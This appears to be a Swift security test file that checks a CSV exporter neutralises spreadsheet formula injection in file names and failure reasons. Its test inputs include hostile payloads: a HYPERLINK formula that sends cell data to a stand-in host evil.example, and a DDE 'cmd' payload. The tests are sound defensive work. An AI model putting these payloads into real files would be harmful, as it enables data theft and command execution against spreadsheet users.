import LectorBatch
import LectorCore
import LectorDB
import LectorTestSupport
import Testing

extension SecurityTests {
    /// The cells of one CSV line (RFC 4180 quoting), for checking what a spreadsheet would see.
    static func cells(_ line: String) -> [String] {
        var cells: [String] = []
        var cell = ""
        var quoted = false
        // "\r\n" is one Character: dropping the last drops the line ending.
        let characters = Array(line.hasSuffix("\r\n") ? String(line.dropLast()) : line)
        var i = 0
        while i < characters.count {
            let c = characters[i]
            if quoted {
                if c == "\"", i + 1 < characters.count, characters[i + 1] == "\"" {
                    cell.append("\"")
                    i += 1
                } else if c == "\"" {
                    quoted = false
                } else {
                    cell.append(c)
                }
            } else if c == "\"" {
                quoted = true
            } else if c == "," {
                cells.append(cell)
                cell = ""
            } else {
                cell.append(c)
            }
            i += 1
        }
        cells.append(cell)
        return cells
    }

    /// The attack: a cell that a spreadsheet evaluates (a file name or model output starting with `=`,
    /// `+`, `-`, `@`, a tab or a carriage return). Each comes out with a leading apostrophe: text.
    @Test("CSV formula injection is neutralised", arguments: [
        "=HYPERLINK(\"http://evil.example/?\"&A1,\"open\")", "+1+1", "-2+3", "@SUM(A1:A9)", "\t=1+1", "\r=1+1",
        "=cmd|' /C calc'!A0", "\r\n=1",
    ])
    func csvFormulaInjectionIsNeutralised(value: String) {
        let cells = Self.cells(CSV.line(["ok", value]))
        #expect(cells == ["ok", "'" + value])
    }

    /// Ordinary cells are untouched (a formula character later in the text is harmless).
    @Test func csvKeepsOrdinaryCells() {
        #expect(CSV.line(["a", "b=c", "x-y", "", "1,5", "say \"hi\""]) == "a,b=c,x-y,,\"1,5\",\"say \"\"hi\"\"\"\r\n")
    }

    /// End to end: a file named like a formula and a failure reason written like one reach the batch
    /// report; its CSV lines carry them as text.
    @Test func batchReportCSVCarriesHostileFileNamesAndReasonsAsText() async throws {
        try await TestDatabase.with { database, _ in
            let batch = try await database.query(
                "INSERT INTO lector.batches (name, tenant) VALUES ('inbox', 'default') RETURNING id"
            ).one().decode("id", as: Int64.self)
            try await database.query(
                "INSERT INTO lector.batch_items (batch_id, item, status, reason) VALUES ($1, $2, 'rejected', $3)",
                batch, "=HYPERLINK(\"http://evil.example\",\"x\").pdf", "@SUM(1+1) not a PDF")
            let rows = try await BatchStore(database: database).report(batchID: batch)
            #expect(rows.count == 1)
            for row in rows {
                let cells = Self.cells(CSV.line(row.csvFields))
                #expect(cells.count == BatchReportRow.csvHeader.count)
                for cell in cells {
                    #expect(cell.unicodeScalars.first.map { !CSV.formulaPrefixes.contains(Character($0)) } ?? true, "\(cell)")
                }
                #expect(cells.contains("'=HYPERLINK(\"http://evil.example\",\"x\").pdf"))
                #expect(cells.contains("'@SUM(1+1) not a PDF"))
            }
        }
    }
}
